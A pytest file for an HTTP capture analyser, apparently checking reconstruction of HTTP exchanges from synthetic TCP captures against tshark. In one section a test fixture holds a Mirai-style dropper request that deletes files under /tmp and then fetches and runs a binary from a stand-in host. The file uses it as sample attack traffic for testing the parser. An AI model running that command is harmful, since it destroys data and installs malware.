"""Wire fidelity on captures from the wild (issue 11), each case a capture built for it.

Every builder in ``CAPTURES`` was also run through tshark's HTTP dissector (``tshark -r F -Y http
-T fields -e tcp.stream -e http.request.method -e http.request.uri -e http.response.code``);
where alb-pcap reports other transactions on purpose, the test's docstring says why.
"""

from __future__ import annotations

from collections import Counter
from collections.abc import Callable

import pytest

from alb_pcap.model import ORIG, RESP, TH_ACK, TH_FIN, TH_PUSH, TH_RST, TH_SYN, AnomalyLog
from alb_pcap.wire.http import HttpConnection

from .analysis import run
from .conftest import shared_dir
from .wire import Wire

C, S = "10.0.0.1", "10.0.0.2"
DATA = TH_ACK | TH_PUSH
GET = b"GET /a HTTP/1.1\r\nHost: x\r\n\r\n"
OK = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nhi"
CAPTURES: dict[str, Callable[[], Wire]] = {}


def capture(builder: Callable[[], Wire]) -> Callable[[], Wire]:
    """Register a builder, under its name without ``build_``, for tshark comparisons."""
    CAPTURES[builder.__name__.removeprefix("build_")] = builder
    return builder


def handshake(w: Wire, port: int = 80, cport: int = 40000, at: float = 0.0) -> Wire:
    """Client ISN 1000, server ISN 5000: data starts at 1001 and 5001."""
    return (w.add(at, C, cport, S, port, TH_SYN, seq=1000)
             .add(at + 0.001, S, port, C, cport, TH_SYN | TH_ACK, seq=5000, ack=1001)
             .add(at + 0.002, C, cport, S, port, TH_ACK, seq=1001, ack=5001))


def analysed(w: Wire, tmp_path) -> tuple[list[tuple], Counter[str], list]:
    """(method, uri, status, ended) per exchange, the anomaly counts, the connections."""
    path = tmp_path / "capture.pcap"
    path.write_bytes(w.pcap_bytes())
    summary, collected = run(path)
    txs = [(e.method, e.uri, e.status, e.ended) for e, _ in collected.exchanges]
    return txs, summary.anomalies.counts, collected.connections


# -- 1. phantom exchanges: an exchange needs a request or a response


@capture
def build_keepalive_probes_mid_stream() -> Wire:
    """An idle keep-alive connection joined mid-stream: Linux probes (no data, seq next - 1), acked."""
    w = Wire()
    for t in (0.0, 75.0, 150.0):
        (w.add(t, C, 40000, S, 80, TH_ACK, seq=99999, ack=7000)
          .add(t + 0.001, S, 80, C, 40000, TH_ACK, seq=7000, ack=100000))
    return w


def test_keepalive_probe_on_a_connection_joined_mid_stream_is_not_a_lost_byte(tmp_path):
    """The first probe sets where the client's stream starts; the server's ACK one past it made a
    1-byte gap, then an empty exchange. tshark: no HTTP either."""
    txs, anomalies, (conn,) = analysed(build_keepalive_probes_mid_stream(), tmp_path)
    assert txs == [] and not anomalies
    assert conn.missed_bytes == 0 and "g" not in conn.history.lower()


@capture
def build_windows_keepalive_probes_mid_stream() -> Wire:
    """The same with Windows probes, which carry one garbage byte (0) at the next byte - 1."""
    w = Wire()
    for t in (0.0, 75.0, 150.0):
        (w.add(t, C, 40000, S, 80, TH_ACK, seq=99999, ack=7000, payload=b"\x00")
          .add(t + 0.001, S, 80, C, 40000, TH_ACK, seq=7000, ack=100000))
    return w


def test_a_windows_keepalive_probe_first_is_no_truncated_head(tmp_path):
    """The first probe's byte reaches the HTTP stage as data (the TCP stage cannot tell yet); a lone
    0 byte opening a direction is skipped (was: HTTP_truncated_head). The later probes are probes."""
    txs, anomalies, (conn,) = analysed(build_windows_keepalive_probes_mid_stream(), tmp_path)
    assert txs == [] and not anomalies
    assert conn.probe_counts == (2, 0)


@capture
def build_tls_on_443() -> Wire:
    """TLS with a lost server segment (acknowledged by the client), and a newline inside records."""
    hello = bytes.fromhex("16030100a5010000a10303") + bytes(range(32)) + b"\x00\x02\x13\x01\n\r\n"
    server = bytes.fromhex("160303005a0200005603030a0d0a") + bytes(80)
    record = bytes.fromhex("1703030020") + bytes(32)
    c, s = 1001 + len(hello), 5001 + len(server) + 1000 + len(record)
    w = handshake(Wire(), 443)
    return (w.add(0.003, C, 40000, S, 443, DATA, seq=1001, ack=5001, payload=hello)
             .add(0.004, S, 443, C, 40000, DATA, seq=5001, ack=c, payload=server)
             .add(0.006, S, 443, C, 40000, DATA, seq=5001 + len(server) + 1000, ack=c, payload=record)
             .add(0.007, C, 40000, S, 443, TH_ACK, seq=c, ack=s)
             .add(0.100, C, 40000, S, 443, DATA, seq=c, ack=s, payload=record)
             .add(0.200, C, 40000, S, 443, TH_FIN | TH_ACK, seq=c + len(record), ack=s)
             .add(0.201, S, 443, C, 40000, TH_FIN | TH_ACK, seq=s, ack=c + len(record) + 1))


def test_tls_is_not_read_as_http(tmp_path):
    """A connection that starts with TLS records is not HTTP: one TLS_not_decrypted, not a
    bad_HTTP_request per garbled record, and no exchange for the gap. tshark: no HTTP."""
    txs, anomalies, (conn,) = analysed(build_tls_on_443(), tmp_path)
    assert txs == []
    assert anomalies == {"TLS_not_decrypted": 1}
    assert conn.missed_bytes == 1000  # the lost segment is still counted at the TCP level


@capture
def build_rst_with_a_wild_ack() -> Wire:
    """GET, 200, then a client RST whose ACK field is 2**31 - 5 past the server's data."""
    w = handshake(Wire())
    return (w.add(0.003, C, 40000, S, 80, DATA, seq=1001, ack=5001, payload=GET)
             .add(0.004, S, 80, C, 40000, DATA, seq=5001, ack=1001 + len(GET), payload=OK)
             .add(0.005, C, 40000, S, 80, TH_RST | TH_ACK, seq=1001 + len(GET),
                  ack=5001 + len(OK) + 2**31 - 5))


def test_an_rst_acknowledging_far_ahead_is_no_2gb_gap(tmp_path):
    """The RST's ACK field is not checked by its receiver (RFC 5961): no gap. tshark agrees on the
    exchange."""
    txs, anomalies, (conn,) = analysed(build_rst_with_a_wild_ack(), tmp_path)
    assert txs == [("GET", "/a", 200, "complete")]
    assert not anomalies and conn.missed_bytes == 0 and conn.conn_state == "RSTO"


@capture
def build_lost_request_and_answer() -> Wire:
    """A client and server segment both lost (acknowledged by the other side), then FINs."""
    w = handshake(Wire())
    return (w.add(0.003, C, 40000, S, 80, TH_ACK, seq=1001 + 40, ack=5001 + 60)
             .add(0.004, S, 80, C, 40000, TH_ACK, seq=5001 + 60, ack=1001 + 40)
             .add(0.100, C, 40000, S, 80, TH_FIN | TH_ACK, seq=1041, ack=5061)
             .add(0.101, S, 80, C, 40000, TH_FIN | TH_ACK, seq=5061, ack=1042))


def test_a_request_and_answer_both_lost_leave_no_empty_exchange(tmp_path):
    """Nothing of either message was seen: the gaps are reported, but an exchange with no method,
    URI or status says nothing (was: one). tshark: nothing."""
    txs, anomalies, _ = analysed(build_lost_request_and_answer(), tmp_path)
    assert txs == []
    assert anomalies["HTTP_content_gap"] == 2


# -- 2. a request target with spaces


SHELL = b"GET /shell?cd+/tmp;rm+-rf+*;wget+ http://x/arm;sh HTTP/1.1\r\nUser-Agent: Hello, world\r\n\r\n"
NOT_FOUND = b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n"


@capture
def build_target_with_spaces() -> Wire:
    """Real attack traffic (a Mirai-style dropper): the target holds a space; the server answers."""
    w = handshake(Wire())
    c, s = 1001 + len(SHELL), 5001 + len(NOT_FOUND)
    return (w.add(0.003, C, 40000, S, 80, DATA, seq=1001, ack=5001, payload=SHELL)
             .add(0.004, S, 80, C, 40000, DATA, seq=5001, ack=c, payload=NOT_FOUND)
             .add(0.005, C, 40000, S, 80, DATA, seq=c, ack=s, payload=GET)
             .add(0.006, S, 80, C, 40000, DATA, seq=s, ack=c + len(GET), payload=OK)
             .add(0.007, C, 40000, S, 80, TH_FIN | TH_ACK, seq=c + len(GET), ack=s + len(OK))
             .add(0.008, S, 80, C, 40000, TH_FIN | TH_ACK, seq=s + len(OK), ack=c + len(GET) + 1))


def test_a_target_with_spaces_is_kept_as_sent(tmp_path):
    """The server answered it, so it is a transaction: the target is everything between the method
    and the version, with an anomaly (was: bad_HTTP_request, and the 404 unmatched).

    Deliberately unlike tshark, which cuts the URI at the first space ("/shell?cd+/tmp;rm+-rf+*;wget+"):
    the rest is what the attacker sent and what a server's access log shows."""
    txs, anomalies, _ = analysed(build_target_with_spaces(), tmp_path)
    assert txs == [("GET", "/shell?cd+/tmp;rm+-rf+*;wget+ http://x/arm;sh", 404, "complete"),
                   ("GET", "/a", 200, "complete")]
    assert anomalies == {"HTTP_space_in_target": 1}


def test_a_target_with_spaces_warns_each_time():
    """The parse of a start line is remembered; the anomaly for a spaced one is not skipped for that."""
    conn = HttpConnection(1, AnomalyLog())
    conn.data(ORIG, SHELL + SHELL, 1, 1)
    assert [tx.uri for tx in conn._txs] == ["/shell?cd+/tmp;rm+-rf+*;wget+ http://x/arm;sh"] * 2
    assert conn.anomalies.counts == {"HTTP_space_in_target": 2}


# -- 3. HTTP/2: prior knowledge and h2c upgrade

H2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
H2_SETTINGS = bytes.fromhex("000006040000000000") + bytes.fromhex("000300000064")
H2_HEADERS = bytes.fromhex("00000d010500000001") + bytes.fromhex("828684418aa0e41d139d09b8f01e07")
UPGRADE = (b"GET / HTTP/1.1\r\nHost: x\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
           b"HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n")
SWITCHING = b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n"


def _two_way(w: Wire, client: list[bytes], server: list[bytes], at: float = 0.003) -> Wire:
    """Client and server segments in turn, each acknowledging the other's, then FINs."""
    c, s, t = 1001, 5001, at
    for i in range(max(len(client), len(server))):
        for side, payloads in ((0, client), (1, server)):
            if i < len(payloads):
                if side == 0:
                    w.add(t, C, 40000, S, 80, DATA, seq=c, ack=s, payload=payloads[i])
                    c += len(payloads[i])
                else:
                    w.add(t, S, 80, C, 40000, DATA, seq=s, ack=c, payload=payloads[i])
                    s += len(payloads[i])
                t += 0.001
    return (w.add(t, C, 40000, S, 80, TH_FIN | TH_ACK, seq=c, ack=s)
             .add(t + 0.001, S, 80, C, 40000, TH_FIN | TH_ACK, seq=s, ack=c + 1))


@capture
def build_h2_prior_knowledge() -> Wire:
    """Cleartext HTTP/2 with prior knowledge: the client preface, SETTINGS and a HEADERS frame."""
    return _two_way(handshake(Wire()), [H2_PREFACE + H2_SETTINGS + H2_HEADERS], [H2_SETTINGS])


def test_http2_prior_knowledge_is_recognised_not_read_as_http1(tmp_path):
    """The preface's "PRI * HTTP/2.0" line is no HTTP/1 request: the connection is marked HTTP/2
    (HTTP2_not_parsed, in the summary's anomalies), no exchange. tshark decodes HTTP/2 (-Y http
    shows none of it as HTTP/1) and agrees."""
    txs, anomalies, _ = analysed(build_h2_prior_knowledge(), tmp_path)
    assert txs == [] and anomalies == {"HTTP2_not_parsed": 1}


def test_http2_server_settings_first_is_recognised():
    conn = HttpConnection(1, AnomalyLog())
    conn.data(RESP, H2_SETTINGS, 1, 1)
    conn.data(ORIG, H2_PREFACE, 2, 2)
    assert conn.protocol == "HTTP/2" and conn.anomalies.counts == {"HTTP2_not_parsed": 1}


@capture
def build_h2c_upgrade() -> Wire:
    """An HTTP/1.1 request upgraded to h2c: 101, then HTTP/2 frames both ways."""
    return _two_way(handshake(Wire()), [UPGRADE, H2_PREFACE + H2_SETTINGS],
                    [SWITCHING + H2_SETTINGS, H2_HEADERS])


def test_h2c_upgrade_is_the_one_http1_exchange_then_http2(tmp_path):
    """The upgrade request and its 101 are HTTP/1 (tshark shows them too); what follows is HTTP/2,
    not parsed, and said so."""
    txs, anomalies, _ = analysed(build_h2c_upgrade(), tmp_path)
    assert txs == [("GET", "/", 101, "tunnel")]
    assert anomalies == {"HTTP2_not_parsed": 1}


# -- 4. HTTP after a non-HTTP prefix on the same connection

SOCKS5_HELLO, SOCKS5_CHOICE = b"\x05\x01\x00", b"\x05\x00"
SOCKS5_CONNECT = b"\x05\x01\x00\x03\x0bexample.com\x00\x50"  # port 80: the byte before GET is "P"
SOCKS5_DONE = b"\x05\x00\x00\x01\xc0\x00\x02\x01\x00\x50"


@capture
def build_socks5_then_http() -> Wire:
    """A SOCKS5 handshake, then the request in the same segment as the CONNECT, and the reply in
    the same segment as the server's success."""
    return _two_way(handshake(Wire()), [SOCKS5_HELLO, SOCKS5_CONNECT + GET, GET],
                    [SOCKS5_CHOICE, SOCKS5_DONE + OK, OK])


def test_http_after_a_socks5_handshake_is_found(tmp_path):
    """Resynchronise on a request line inside a segment (and inside a rejected line), not only at a
    line start: both requests and both answers (was: the first answer without its request).

    Deliberately more than tshark, which finds only the second exchange: its dissector wants a
    message at the start of a segment."""
    txs, anomalies, _ = analysed(build_socks5_then_http(), tmp_path)
    assert txs == [("GET", "/a", 200, "complete")] * 2
    assert anomalies == {"bad_HTTP_request": 1, "bad_HTTP_reply": 1}


PROXY_V1 = b"PROXY TCP4 192.0.2.1 10.0.0.2 56324 80\r\n"


@capture
def build_proxy_protocol_then_http() -> Wire:
    """A PROXY protocol v1 line in front of the first request (a load balancer's, to its target)."""
    return _two_way(handshake(Wire()), [PROXY_V1 + GET, GET], [OK, OK])


def test_http_after_a_proxy_protocol_line_is_found(tmp_path):
    """The PROXY line is a bad request line (anomaly), the request after it is found. Deliberately
    unlike tshark, which logs the first answer without its request."""
    txs, anomalies, _ = analysed(build_proxy_protocol_then_http(), tmp_path)
    assert txs == [("GET", "/a", 200, "complete")] * 2


# -- 5. answers paired with the wrong request


def _get(n: int) -> bytes:
    return b"GET /%d HTTP/1.1\r\nHost: x\r\n\r\n" % n


def _ok(n: int, size: int = 2) -> bytes:
    head = b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: %d\r\n\r\n" % size
    return head + b"%d" % n * size


@capture
def build_joined_mid_answer() -> Wire:
    """Joined mid-stream: GET /1 is seen, not the first segment of its 3000-byte answer (so no hole
    the TCP stage could see: the server's stream starts at the second segment); then /2 and /3."""
    first = _ok(1, 3000)
    w, c, s, t = Wire(), 1001, 9001, 0.0
    w.add(t, C, 40000, S, 80, DATA, seq=c, ack=s - 1460, payload=_get(1))
    c += len(_get(1))
    w.add(t + 0.002, S, 80, C, 40000, DATA, seq=s, ack=c, payload=first[1460:])
    s += len(first) - 1460
    for n in (2, 3):
        t += 0.010
        w.add(t, C, 40000, S, 80, DATA, seq=c, ack=s, payload=_get(n))
        c += len(_get(n))
        w.add(t + 0.002, S, 80, C, 40000, DATA, seq=s, ack=c, payload=_ok(n))
        s += len(_ok(n))
    return w


def test_an_answer_whose_start_was_not_captured_does_not_shift_the_others(tmp_path):
    """The server's bytes after GET /1 and before GET /2 can only be /1's answer (a client sends
    its next request once the answer is in): /1 gets none, /2 and /3 their own, and the loss is
    reported (was: /1 paired with /2's 200, /2 with /3's, /3 with none).

    tshark agrees on /1 and /3 but leaves /2 without answer: it does not look for /2's status line
    behind the body tail it could not frame.
    """
    txs, anomalies, _ = analysed(build_joined_mid_answer(), tmp_path)
    assert txs == [("GET", "/1", None, "gap"), ("GET", "/2", 200, "complete"), ("GET", "/3", 200, "complete")]
    assert anomalies == {"bad_HTTP_reply": 1, "HTTP_response_start_missing": 1}


@capture
def build_answer_captured_before_its_request() -> Wire:
    """Joined mid-stream (no SYN), two mirror sources: the first answer is captured 50 us before
    its request; the second exchange is in order."""
    w, c, s = Wire(), 1001, 9001
    w.add(0.000050, S, 80, C, 40000, DATA, seq=s, ack=c + len(_get(1)), payload=_ok(1))
    w.add(0.000100, C, 40000, S, 80, DATA, seq=c, ack=s, payload=_get(1))
    c, s = c + len(_get(1)), s + len(_ok(1))
    w.add(0.010, C, 40000, S, 80, DATA, seq=c, ack=s, payload=_get(2))
    w.add(0.012, S, 80, C, 40000, DATA, seq=s, ack=c + len(_get(2)), payload=_ok(2))
    return w


def test_an_answer_captured_before_its_request_pairs_with_it(tmp_path):
    """The TCP stage holds such an answer back when it has seen the client's direction; on the first
    segments of a connection joined mid-stream it cannot, so the HTTP stage waits for the client's
    next head (10 ms at most). Was: the 200 unmatched, /1 paired with /2's answer, /2 with none.

    Deliberately unlike tshark, which logs the first answer without request and drops GET /1 as a
    "spurious retransmission" (the answer captured before it had acknowledged its bytes).
    """
    txs, anomalies, _ = analysed(build_answer_captured_before_its_request(), tmp_path)
    assert txs == [("GET", "/1", 200, "complete"), ("GET", "/2", 200, "complete")]
    assert anomalies == {"HTTP_reply_before_request": 1}


def test_an_early_answer_with_no_request_soon_after_is_unmatched():
    """A first answer with no request within 10 ms, or a 408 (never an answer), stays unmatched."""
    timeout = b"HTTP/1.1 408 Request Timeout\r\nContent-Length: 0\r\n\r\n"
    for late, answer, status in ((20_000_000, _ok(1), 200), (1000, timeout, 408)):
        conn = HttpConnection(1, AnomalyLog())
        conn.data(RESP, answer, 1000, 1)
        conn.data(ORIG, _get(1), 1000 + late, 2)
        conn.data(RESP, _ok(1), 2000 + late, 3)
        for d in (ORIG, RESP):
            conn.end(d, "fin", 3000 + late, 4)
        assert [(e.method, e.status) for e in conn.exchanges()] == [(None, status), ("GET", 200)]
        assert conn.anomalies.counts == {"unmatched_HTTP_reply": 1}


def test_a_first_answer_after_the_client_ended_is_unmatched_at_once():
    """No request can follow the client's FIN: nothing to wait for."""
    conn = HttpConnection(1, AnomalyLog())
    conn.end(ORIG, "fin", 1, 1)
    conn.data(RESP, _ok(1), 2, 2)
    assert conn.anomalies.counts == {"unmatched_HTTP_reply": 1}
    assert [(e.method, e.status) for e in conn.exchanges()] == [(None, 200)]


# -- 6. TCP Fast Open


@capture
def build_tcp_fast_open() -> Wire:
    """The request in the SYN (TFO), the SYN-ACK acknowledging it, the answer, FINs; then the same
    SYN retransmitted on another connection whose first SYN was lost (its data is not doubled)."""
    w = Wire()
    c = 1001 + len(GET)
    (w.add(0.000, C, 40000, S, 80, TH_SYN, seq=1000, payload=GET)
      .add(0.001, S, 80, C, 40000, TH_SYN | TH_ACK, seq=5000, ack=c)
      .add(0.002, S, 80, C, 40000, DATA, seq=5001, ack=c, payload=OK)
      .add(0.003, C, 40000, S, 80, TH_FIN | TH_ACK, seq=c, ack=5001 + len(OK))
      .add(0.004, S, 80, C, 40000, TH_FIN | TH_ACK, seq=5001 + len(OK), ack=c + 1))
    (w.add(1.000, C, 40001, S, 80, TH_SYN, seq=1000, payload=GET)
      .add(2.000, C, 40001, S, 80, TH_SYN, seq=1000, payload=GET)
      .add(2.001, S, 80, C, 40001, TH_SYN | TH_ACK, seq=5000, ack=c)
      .add(2.002, S, 80, C, 40001, DATA, seq=5001, ack=c, payload=OK))
    return w


def test_a_request_in_the_syn_is_delivered(tmp_path):
    """Was: "lost in head" (the SYN-ACK acknowledged bytes never delivered) and the answer
    unmatched. tshark agrees."""
    txs, anomalies, conns = analysed(build_tcp_fast_open(), tmp_path)
    assert txs == [("GET", "/a", 200, "complete")] * 2
    assert not anomalies
    assert [(c.orig_bytes, c.missed_bytes, c.retransmits) for c in conns] == [
        (len(GET), 0, (0, 0)), (len(GET), 0, (1, 0))]


# -- 7. RSTs the receiver ignored (RFC 5961)


@capture
def build_rst_outside_the_window() -> Wire:
    """GET /1, then an RST 2 GB away from the client's stream (an injection that guessed wrong), then
    the answer, GET /2 and its answer, FINs."""
    w, c, s = handshake(Wire()), 1001, 5001
    w.add(0.003, C, 40000, S, 80, DATA, seq=c, ack=s, payload=_get(1))
    c += len(_get(1))
    w.add(0.004, C, 40000, S, 80, TH_RST | TH_ACK, seq=c + 2**31 - 5, ack=s)
    w.add(0.005, S, 80, C, 40000, DATA, seq=s, ack=c, payload=_ok(1))
    s += len(_ok(1))
    w.add(0.006, C, 40000, S, 80, DATA, seq=c, ack=s, payload=_get(2))
    c += len(_get(2))
    w.add(0.007, S, 80, C, 40000, DATA, seq=s, ack=c, payload=_ok(2))
    s += len(_ok(2))
    return (w.add(0.008, C, 40000, S, 80, TH_FIN | TH_ACK, seq=c, ack=s)
             .add(0.009, S, 80, C, 40000, TH_FIN | TH_ACK, seq=s, ack=c + 1))


def test_an_rst_outside_the_window_does_not_end_the_connection(tmp_path):
    """Was: the connection ended at the RST (RSTO, /1 cut "rst", the rest dropped); now both
    exchanges, an SF connection, and RST_outside_window.

    tshark agrees on /1 but logs /2's answer without its request."""
    txs, anomalies, (conn,) = analysed(build_rst_outside_the_window(), tmp_path)
    assert txs == [("GET", "/1", 200, "complete"), ("GET", "/2", 200, "complete")]
    assert anomalies == {"RST_outside_window": 1}
    assert (conn.conn_state, conn.rst, conn.missed_bytes) == ("SF", None, 0)


def _answer_cut_by(rst_from_client: tuple[int, int] | None, then_client: bool) -> Wire:
    """GET /1 and a 3000-byte answer in two segments with an in-window RST "from the client" between
    them; then (then_client) the client's GET /2 and its answer, or the server's FIN."""
    w, c, s = handshake(Wire()), 1001, 5001
    big = _ok(1, 3000)
    w.add(0.003, C, 40000, S, 80, DATA, seq=c, ack=s, payload=_get(1))
    c += len(_get(1))
    w.add(0.004, S, 80, C, 40000, DATA, seq=s, ack=c, payload=big[:1460])
    if rst_from_client:
        w.add(0.005, C, 40000, S, 80, TH_RST | TH_ACK, seq=c + rst_from_client[0], ack=s + rst_from_client[1])
    w.add(0.006, S, 80, C, 40000, DATA, seq=s + 1460, ack=c, payload=big[1460:])
    s += len(big)
    if then_client:
        w.add(0.007, C, 40000, S, 80, DATA, seq=c, ack=s, payload=_get(2))
        c += len(_get(2))
        w.add(0.008, S, 80, C, 40000, DATA, seq=s, ack=c, payload=_ok(2))
        s += len(_ok(2))
        w.add(0.009, C, 40000, S, 80, TH_FIN | TH_ACK, seq=c, ack=s)
    return w.add(0.010, S, 80, C, 40000, TH_FIN | TH_ACK, seq=s, ack=c + then_client)


@capture
def build_injected_rst() -> Wire:
    """An RST in the client's window, injected mid-download (a middlebox, or a TCP-MD5-signed
    session whose receiver refused the unsigned RST): the server goes on, and so does the client."""
    return _answer_cut_by((0, 1460), then_client=True)


def test_an_injected_rst_followed_by_more_data_does_not_end_the_connection(tmp_path):
    """The client's direction goes on after an RST that claims to be the client's: its receiver
    ignored it (RFC 5961), so does alb-pcap, with RST_ignored. Was: /1 cut "rst" at 1460 bytes,
    /2 dropped, the connection RSTO (a reset to explain where there was none). tshark agrees."""
    txs, anomalies, (conn,) = analysed(build_injected_rst(), tmp_path)
    assert txs == [("GET", "/1", 200, "complete"), ("GET", "/2", 200, "complete")]
    assert anomalies == {"RST_ignored": 1}
    assert (conn.conn_state, conn.rst, conn.history) == ("SF", None, "ShADdFf")


@capture
def build_heeded_rst() -> Wire:
    """The client resets mid-download: the server's next segment was in flight and is captured after
    the RST, then its FIN; the client says nothing more."""
    return _answer_cut_by((0, 1460), then_client=False)


def test_an_rst_whose_sender_says_nothing_more_ends_the_connection(tmp_path):
    """What the other side sent after the RST is no sign it was ignored (it crossed the RST): the
    RST ends the connection, as before."""
    txs, anomalies, (conn,) = analysed(build_heeded_rst(), tmp_path)
    assert txs == [("GET", "/1", 200, "rst")]
    assert anomalies == {"HTTP_content_length_mismatch": 1}
    assert conn.conn_state == "RSTO" and conn.rst is not None and conn.rst.frame == 6


def test_an_rst_ends_the_connection_once_its_wait_is_over(tmp_path):
    """Client data 0.5 s after its RST (past RST_WAIT_NS) is no verdict any more: the RST ended the
    connection when its wait ran out, and what came after is dropped, as before."""
    w = _answer_cut_by((0, 1460), then_client=False)
    c = 1001 + len(_get(1))
    w.add(0.600, C, 40000, S, 80, DATA, seq=c, ack=5001 + len(_ok(1, 3000)), payload=_get(2))
    txs, anomalies, (conn,) = analysed(w, tmp_path)
    assert txs == [("GET", "/1", 200, "rst")]
    assert "RST_ignored" not in anomalies and conn.conn_state == "RSTO"


# -- where alb-pcap departs from tshark on purpose (issue 11's last point)


@capture
def build_blank_line_before_a_status_line() -> Wire:
    return _two_way(handshake(Wire()), [GET], [b"\r\n" + OK])


def test_a_blank_line_before_a_status_line_is_skipped(tmp_path):
    """RFC 9112 §2.2: empty lines before a message are ignored. tshark agrees."""
    txs, anomalies, _ = analysed(build_blank_line_before_a_status_line(), tmp_path)
    assert txs == [("GET", "/a", 200, "complete")] and not anomalies


@capture
def build_second_syn_ack_with_another_isn() -> Wire:
    """A stray SYN-ACK with another ISN (a middlebox's, a stale retransmission of an earlier attempt)
    after the handshake; the client acknowledges the first and the conversation goes on from it."""
    w = handshake(Wire())
    w.add(0.0025, S, 80, C, 40000, TH_SYN | TH_ACK, seq=900_000, ack=1001)
    return _two_way(w, [GET], [OK])


def test_a_second_syn_ack_with_another_isn_does_not_move_the_stream(tmp_path):
    """The handshake the client completed set the server's stream; a SYN-ACK the client never
    acknowledged does not restart it, so the answer is read whole. tshark re-bases the server's
    stream on the second ISN and reports the request only: its answer is lost."""
    txs, anomalies, (conn,) = analysed(build_second_syn_ack_with_another_isn(), tmp_path)
    assert txs == [("GET", "/a", 200, "complete")] and not anomalies
    assert conn.missed_bytes == 0


@capture
def build_fin_in_the_middle_of_a_head() -> Wire:
    """The client's head stops before its empty line, then FIN; the server answers 400 and closes."""
    head = b"GET /a HTTP/1.1\r\nHost: x\r\n"
    bad = b"HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
    c = 1001 + len(head)
    return (handshake(Wire())
            .add(0.003, C, 40000, S, 80, DATA, seq=1001, ack=5001, payload=head)
            .add(0.004, C, 40000, S, 80, TH_FIN | TH_ACK, seq=c, ack=5001)
            .add(0.005, S, 80, C, 40000, DATA, seq=5001, ack=c + 1, payload=bad)
            .add(0.006, S, 80, C, 40000, TH_FIN | TH_ACK, seq=5001 + len(bad), ack=c + 1))


def test_a_head_cut_by_a_fin_keeps_its_request_line(tmp_path):
    """The complete lines of a head cut by the client's FIN are its request, and the server's 400
    answers it (HTTP_truncated_head). Deliberately unlike tshark, which logs the 400 without request."""
    txs, anomalies, _ = analysed(build_fin_in_the_middle_of_a_head(), tmp_path)
    assert txs == [("GET", "/a", 400, "fin")]
    assert anomalies == {"HTTP_truncated_head": 1}


def _bad_status_then_good(status_line: bytes) -> Wire:
    return _two_way(handshake(Wire()), [_get(1), _get(2)],
                    [status_line + b"\r\nContent-Length: 2\r\n\r\nhi", _ok(2)])


@capture
def build_status_http_1_00() -> Wire:
    return _bad_status_then_good(b"HTTP/1.00 200 OK")


@capture
def build_status_2xx() -> Wire:
    return _bad_status_then_good(b"HTTP/1.1 2XX OK")


def test_status_lines_rfc_9112_rejects_are_no_answers(tmp_path):
    """"HTTP/1.00 200" and "HTTP/1.1 2XX" are no status lines (RFC 9112 §4: one digit after the dot,
    three digits): bad_HTTP_reply, /1 gets no status, and the realignment keeps /2's 200 for /2.
    Deliberately unlike tshark, which reads status 200 and 2 for /1."""
    for builder in (build_status_http_1_00, build_status_2xx):
        txs, anomalies, _ = analysed(builder(), tmp_path)
        assert txs == [("GET", "/1", None, "gap"), ("GET", "/2", 200, "complete")]
        assert anomalies == {"bad_HTTP_reply": 1, "HTTP_response_start_missing": 1}


# -- tshark on Zeek's traces: the deliberate differences (README "against peers")

SHARED = shared_dir()
FORMMAIL = ("/cgi-bin/formmail.pl?email=f2@aol.com&subject=www-nrg.ee/cgi-bin/formmail.pl"
            "&recipient=unknownz@buy2save.com&msg=w00t")
# trace -> (why, what alb-pcap logs that tshark 4.0 does not, what tshark logs that alb-pcap does not);
# the other 24 of the 29 traces give the same (method, uri, status) transactions as tshark.
TSHARK_DELIBERATE: dict[str, tuple[str, Counter, Counter]] = {
    "http-09": ("HTTP/0.9 requests have no version; tshark does not read them as requests",
                Counter({("GET", "/zeek.html", None): 1, ("POST", "/zeek.html", None): 1}), Counter()),
    "http-no-version": ("an HTTP/0.9 request, as http-09",
                        Counter({("GET", FORMMAIL, None): 1}), Counter()),
    "http-to-ssh-rst": ("a GET answered by an SSH server: the request is evidence, without an answer",
                        Counter({("GET", "/", None): 1}), Counter()),
    "http261-chunk-2pow64": ("the request smuggled behind a 2**64 chunk size is found by resynchronising",
                             Counter({("GET", "/smuggled-chunk-2pow64", None): 1}), Counter()),
    "tcp-padding-http": ("Ethernet padding is not payload: alb-pcap reads the request tshark misses",
                         Counter({("GET", "/", 200): 1}), Counter({(None, None, 200): 1})),
}


@pytest.mark.skipif(SHARED is None, reason="../shared/peer/zeek not found (set ALB_PCAP_SHARED)")
@pytest.mark.parametrize("trace", sorted(TSHARK_DELIBERATE))
def test_zeek_traces_where_alb_pcap_departs_from_tshark(trace):
    _, ours_only, tshark_only = TSHARK_DELIBERATE[trace]
    (path,) = (SHARED / "peer" / "zeek" / trace).glob("trace.pcap*")
    _, collected = run(path)
    ours = Counter((e.method, e.uri, e.status) for e, _ in collected.exchanges)
    assert ours & ours_only == ours_only and not ours & tshark_only
